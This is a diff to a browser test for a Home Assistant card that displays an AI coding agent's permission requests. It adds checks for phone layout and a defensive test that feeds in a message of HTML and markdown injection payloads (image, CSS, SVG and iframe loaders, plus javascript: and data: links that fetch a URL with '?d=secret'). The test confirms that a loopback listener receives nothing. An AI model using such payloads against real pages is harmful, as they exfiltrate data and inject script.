@@ -15,6 +15,7 @@ import { spawn, spawnSync } from "node:child_process";
 import { createHash } from "node:crypto";
 import { cpSync, createWriteStream, existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
 import { createRequire } from "node:module";
+import { createServer as createHttpServer } from "node:http";
 import { createServer } from "node:net";
 import { tmpdir } from "node:os";
 import { dirname, join, resolve } from "node:path";
@@ -44,6 +45,15 @@ const START = Date.now();
 const timings = {};
 const children = [];
 const pages = [];
+// Every console error of every page (checked: none is Home Assistant's unknown_command).
+const consoleErrors = [];
+// Checks that do not stop the run, so one run reports each of them (see expectThat).
+const problems = [];
+// The phone: what the card must fit (docs/card.md).
+const PHONE = { width: 390, height: 844 };
+// After an answer the row stays where it was, drawn as answered, for this long (the
+// card holds it 3 s); the check watches it for this part of that time.
+const HOLD_CHECK_MS = 1500;
 
 function log(...args) {
   console.log(`[card-test +${((Date.now() - START) / 1000).toFixed(1)}s]`, ...args);
@@ -51,6 +61,13 @@ function log(...args) {
 
 function fail(message) {
   throw new Error(message);
+}
+
+/** A check whose failure is reported at the end of the run, with the others. */
+function expectThat(ok, message) {
+  if (ok) return;
+  problems.push(message);
+  log(`CHECK FAILED: ${message}`);
 }
 
 async function step(name, fn) {
@@ -303,6 +320,10 @@ http:
   server_port: ${port}
 frontend:
 config:
+# The frontend asks recorder/info (history, statistics): without a recorder every page
+# logs unknown_command. SQLite in this temporary config folder, as a real install has.
+recorder:
+  purge_keep_days: 1
 logger:
   default: warning
   logs:
@@ -439,6 +460,7 @@ async function openDashboard(browser, base, tokens, options = {}) {
   page.on("pageerror", (err) => log(`page error: ${err.name} ${err.message} ${err.stack ?? ""}`));
   page.on("console", (msg) => {
     if (msg.type() === "error" || process.env.CARD_TEST_DEBUG) log(`console ${msg.type()}: ${msg.text()}`);
+    if (msg.type() === "error") consoleErrors.push(msg.text());
   });
   page.on("requestfailed", (req) => log(`request failed: ${req.url()} ${req.failure()?.errorText}`));
   if (process.env.CARD_TEST_DEBUG) {
@@ -671,6 +693,124 @@ async function screenshots(page, name) {
   return files;
 }
 
+/** An HTTP listener on loopback that records every connection and request it gets. */
+function tripwire() {
+  return new Promise((ok, err) => {
+    const seen = { connections: 0, requests: [] };
+    const server = createHttpServer((req, res) => {
+      seen.requests.push(req.url);
+      res.writeHead(204).end();
+    });
+    server.on("connection", () => seen.connections++);
+    server.once("error", err);
+    server.listen(0, "127.0.0.1", () =>
+      ok({
+        seen,
+        url: `http://127.0.0.1:${server.address().port}`,
+        close: () => {
+          server.closeAllConnections();
+          return new Promise((r) => server.close(r));
+        },
+      }),
+    );
+  });
+}
+
+/** A message that tries every way of making the browser fetch `base` or run script. */
+function hostileText(base) {
+  return [
+    "HOSTILE-MESSAGE with secrets in image URLs",
+    `![status](${base}/markdown-image.png?d=secret)`,
+    `<img src="${base}/raw-img.png?d=secret">`,
+    `<img srcset="${base}/srcset.png?d=secret 1x" alt="s">`,
+    `<p style="background-image: url(${base}/css-url.png?d=secret)">styled</p>`,
+    `<svg width="10" height="10"><image href="${base}/svg-image.png?d=secret" width="10" height="10"/></svg>`,
+    `<video poster="${base}/poster.png?d=secret" src="${base}/video.mp4"></video>`,
+    `<iframe src="${base}/iframe.html?d=secret"></iframe>`,
+    `<a href="javascript:fetch('${base}/js-href')">raw js link</a>`,
+    `[js link](javascript:fetch('${base}/js-link'))`,
+    `[data link](data:text/html,<script>fetch('${base}/data-link')</script>)`,
+    `![data image](data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg"><image href="${base}/data-svg.png"/></svg>)`,
+  ].join("\n\n");
+}
+
+/**
+ * In the page: what an element holds, shadow roots included, that could load or run
+ * something: elements that fetch, style attributes, handlers, links and their targets.
+ */
+function scanForRemoteContent(root) {
+  const found = { loaders: [], styles: [], handlers: [], links: [], text: "" };
+  const visit = (node) => {
+    for (const el of node.querySelectorAll("*")) {
+      const tag = el.localName;
+      if (["img", "picture", "source", "video", "audio", "iframe", "object", "embed", "image", "svg", "link", "style", "script"].includes(tag)) {
+        found.loaders.push(el.outerHTML.slice(0, 200));
+      }
+      if (el.hasAttribute("style") && /url\(/i.test(el.getAttribute("style"))) found.styles.push(el.outerHTML.slice(0, 200));
+      for (const attr of el.getAttributeNames()) if (/^on/i.test(attr)) found.handlers.push(`${tag} ${attr}`);
+      if (tag === "a") found.links.push({ href: el.getAttribute("href"), target: el.getAttribute("target"), rel: el.getAttribute("rel") });
+      if (el.shadowRoot) {
+        found.text += el.shadowRoot.textContent;
+        visit(el.shadowRoot);
+      }
+    }
+  };
+  found.text = root.textContent;
+  visit(root);
+  return found;
+}
+
+/** In the page: where each --flag of a command is drawn (the tops of its line boxes). */
+function flagLines(pre) {
+  const nodes = [];
+  const walker = document.createTreeWalker(pre, NodeFilter.SHOW_TEXT);
+  let text = "";
+  for (let n = walker.nextNode(); n; n = walker.nextNode()) {
+    nodes.push([n, text.length]);
+    text += n.data;
+  }
+  const at = (i) => {
+    const [node, start] = nodes.findLast(([, s]) => s <= i);
+    return [node, i - start];
+  };
+  const out = [];
+  for (const m of text.matchAll(/--[\w.=-]+/g)) {
+    const range = document.createRange();
+    range.setStart(...at(m.index));
+    const [node, offset] = at(m.index + m[0].length - 1);
+    range.setEnd(node, offset + 1);
+    const tops = [...range.getClientRects()].filter((r) => r.width > 0).map((r) => r.top);
+    out.push({ flag: m[0], lines: tops.length ? Math.round(Math.max(...tops) - Math.min(...tops)) : -1 });
+  }
+  return { flags: out, overflow: pre.scrollWidth - pre.clientWidth, text };
+}
+
+/** In the page: the width the placeholder needs and the room the field has for it. */
+function placeholderRoom(input) {
+  const style = getComputedStyle(input);
+  const ctx = document.createElement("canvas").getContext("2d");
+  ctx.font = `${style.fontStyle} ${style.fontWeight} ${style.fontSize} ${style.fontFamily}`;
+  return {
+    placeholder: input.placeholder,
+    need: Math.ceil(ctx.measureText(input.placeholder).width),
+    room: Math.floor(input.clientWidth - parseFloat(style.paddingLeft) - parseFloat(style.paddingRight)),
+    scrollWidth: input.scrollWidth,
+    clientWidth: input.clientWidth,
+  };
+}
+
+/** In the page: the top of a row every frame for `ms` (null while it is not drawn). */
+async function rowTops(card, [sessionId, ms]) {
+  const tops = [];
+  const start = performance.now();
+  while (performance.now() - start < ms) {
+    await new Promise((r) => requestAnimationFrame(r));
+    const el = card.shadowRoot.querySelector(`li.row[data-session="${sessionId}"]`);
+    tops.push(el ? Math.round(el.getBoundingClientRect().top) : null);
+  }
+  return tops;
+}
+
 // ---------------------------------------------------------------- the test
 
 async function main() {
@@ -814,10 +954,96 @@ async function main() {
       await r.and(page.locator('[data-state="idle"]')).waitFor({ timeout: 30_000 });
     });
 
-    // 4. Expanding a row shows the last messages rendered by HA's own markdown element.
+    // 4. A phone: a command wraps between words, a compound command shows once, the
+    // reason's placeholder fits, and the row just answered stays under the finger.
+    await step(`a phone (${PHONE.width} px): commands, the reason field, the answered row`, async () => {
+      await page.setViewportSize(PHONE);
+      // Twelve flags, the command under the agent's 200 characters for a pattern.
+      const flags =
+        "--archive --delete-after --force --human-readable --exclude=.git --partial-dir=.part " +
+        "--checksum --no-owner --no-group --itemize-changes --one-file-system --max-size=9M";
+      const [deploy, tag] = await Promise.all([newSession(stack, "Deploy the site"), newSession(stack, "Tag the release")]);
+      await prompt(stack, deploy, `RUN: echo rsync ${flags} build/ www/`);
+      await row(page, deploy).getByRole("button", { name: "Approve" }).waitFor({ timeout: 30_000 });
+      await prompt(stack, tag, "RUN: echo tagging-the-release && echo pushing-the-tag");
+      await row(page, tag).getByRole("button", { name: "Approve" }).waitFor({ timeout: 30_000 });
+      await page.evaluate(() => new Promise((r) => requestAnimationFrame(() => requestAnimationFrame(r))));
+      await page.locator("opencode-lookout-card").screenshot({ path: join(OUT, `card-phone-${PHONE.width}.png`) });
+
+      const drawn = await row(page, deploy).locator(".request pre").first().evaluate(flagLines);
+      const broken = drawn.flags.filter((f) => f.lines !== 0);
+      expectThat(drawn.flags.length >= 12 && broken.length === 0, `at ${PHONE.width} px flags of the command are broken across lines: ${JSON.stringify(broken)} (${drawn.flags.length} flags)`);
+      expectThat(drawn.overflow <= 0, `at ${PHONE.width} px the command overflows its box by ${drawn.overflow} px`);
+
+      const permission = await page.locator("opencode-lookout-card").evaluate(
+        (card, id) => card._machines.flatMap((m) => m.sessions).find((s) => s.id === id)?.pending_permissions[0],
+        tag,
+      );
+      timings["compound command: the permission the card got"] = permission;
+      const shown = await row(page, tag).locator(".request").first().innerText();
+      const times = shown.split("pushing-the-tag").length - 1;
+      expectThat(times === 1, `the compound command is shown ${times} times: ${JSON.stringify(shown)}`);
+
+      const reason = await row(page, deploy).getByRole("textbox", { name: /Reason/ }).evaluate(placeholderRoom);
+      expectThat(reason.need <= reason.room && reason.scrollWidth <= reason.clientWidth, `at ${PHONE.width} px the reason's placeholder is cut: ${JSON.stringify(reason)}`);
+
+      // The older request is on top; once answered it would sort below the other.
+      const card = page.locator("opencode-lookout-card");
+      const before = await card.evaluate(
+        (el, id) => Math.round(el.shadowRoot.querySelector(`li.row[data-session="${id}"]`).getBoundingClientRect().top),
+        deploy,
+      );
+      await row(page, deploy).getByRole("button", { name: "Approve" }).click();
+      const tops = await card.evaluate(rowTops, [deploy, HOLD_CHECK_MS]);
+      const moved = tops.filter((t) => t !== before);
+      expectThat(moved.length === 0, `the answered row moved under the finger within ${HOLD_CHECK_MS} ms: top ${before} px, then ${JSON.stringify([...new Set(tops)])}`);
+      await row(page, deploy).and(page.locator('[data-state="idle"]')).waitFor({ timeout: 30_000 });
+      await row(page, tag).getByRole("button", { name: "Reject" }).click();
+      await row(page, tag).and(page.locator('[data-state="idle"]')).waitFor({ timeout: 30_000 });
+      await page.setViewportSize({ width: 1280, height: 900 });
+    });
+
+    // 5. Opening a row loads nothing from anywhere: a message full of images and links
+    // pointing at a listener on loopback, and the listener hears nothing.
+    await step("opening a row loads no remote content and runs no script", async () => {
+      const wire = await tripwire();
+      try {
+        const session = await newSession(stack, "Summarise the release");
+        await prompt(stack, session, hostileText(wire.url));
+        const r = row(page, session);
+        await until("the hostile prompt at the model", async () => JSON.stringify(await llmRequests(stack)).includes("HOSTILE-MESSAGE"));
+        await r.and(page.locator('[data-state="idle"]')).waitFor({ timeout: 30_000 });
+        await r.getByRole("button", { name: /Show details/ }).click();
+        await r.locator(".details .message").filter({ hasText: "HOSTILE-MESSAGE" }).first().waitFor({ timeout: 15_000 });
+        // An element that loads starts as soon as it exists: leave any request time to land.
+        await page.evaluate(() => new Promise((done) => setTimeout(() => requestAnimationFrame(done), 300)));
+        const found = await r.locator(".details").evaluate(scanForRemoteContent);
+        await page.screenshot({ path: join(OUT, "card-hostile-message-light-1280.png"), fullPage: true });
+        timings["hostile message: what the listener got"] = wire.seen;
+        expectThat(
+          wire.seen.connections === 0 && wire.seen.requests.length === 0,
+          `opening a row made the browser fetch from the listener: ${wire.seen.connections} connection(s), ${JSON.stringify(wire.seen.requests)}`,
+        );
+        expectThat(found.loaders.length === 0 && found.styles.length === 0, `the message drew elements that load: ${JSON.stringify([...found.loaders, ...found.styles])}`);
+        expectThat(found.handlers.length === 0, `the message drew event handlers: ${JSON.stringify(found.handlers)}`);
+        const badLinks = found.links.filter(
+          (a) => !/^(https?|mailto):/i.test(a.href ?? "") || a.target !== "_blank" || !/\bnoopener\b/.test(a.rel ?? "") || !/\bnoreferrer\b/.test(a.rel ?? ""),
+        );
+        expectThat(badLinks.length === 0, `links in the message that are not http(s) or open with an opener or referrer: ${JSON.stringify(badLinks)}`);
+        expectThat(found.text.includes("HOSTILE-MESSAGE"), "the message's text is not drawn");
+        // Links are drawn: the page must not look up their hosts on its own either.
+        const prefetch = await page.evaluate(() => document.head.querySelector('meta[http-equiv="x-dns-prefetch-control"]')?.content);
+        expectThat(prefetch === "off", `DNS prefetching of links is not turned off (x-dns-prefetch-control: ${prefetch})`);
+        await r.getByRole("button", { name: /Hide details/ }).click();
+      } finally {
+        await wire.close();
+      }
+    });
+
+    // 6. Expanding a row shows the last messages.
     await step("expanding a row shows its last messages", async () => {
       await approveRow.getByRole("button", { name: /Show details/ }).click();
-      await approveRow.locator(".details ha-markdown").first().waitFor({ timeout: 15_000 });
+      await approveRow.locator(".details .message").first().waitFor({ timeout: 15_000 });
       await page.screenshot({ path: join(OUT, "card-expanded-light-1280.png"), fullPage: true });
     });
 
@@ -841,7 +1067,7 @@ async function main() {
       if (!info.picker || info.editor !== "opencode-lookout-card-editor" || !info.form) fail(`picker/editor: ${JSON.stringify(info)}`);
     });
 
-    // 5. Fifty sessions: all rows drawn; requests in ten of them still reach the card
+    // 7. Fifty sessions: all rows drawn; requests in ten of them still reach the card
     // within 300 ms of reaching HA each, and every render of the card stays short.
     await step(`${MANY_SESSIONS} sessions stay smooth`, async () => {
       const card = page.locator("opencode-lookout-card");
@@ -885,6 +1111,10 @@ async function main() {
       if (latencies.at(-1) > HA_TO_CARD_MS) fail(`with ${MANY_SESSIONS} sessions an update took ${latencies.at(-1)} ms from HA to the card (limit ${HA_TO_CARD_MS} ms): ${latencies}`);
       if (renderMs.at(-1) > MAX_RENDER_MS) fail(`with ${MANY_SESSIONS} sessions one render of the card took ${Math.round(renderMs.at(-1))} ms (limit ${MAX_RENDER_MS} ms)`);
     });
+
+    const unknown = consoleErrors.filter((text) => text.includes("unknown_command"));
+    expectThat(unknown.length === 0, `the pages logged unknown_command (a websocket command of no loaded integration): ${JSON.stringify(unknown)}`);
+    if (problems.length) fail(`${problems.length} check(s) failed:\n- ${problems.join("\n- ")}`);
 
     timings.total = Date.now() - START;
     log(`passed in ${(timings.total / 1000).toFixed(1)} s; screenshots: ${shots.join(", ")}`);
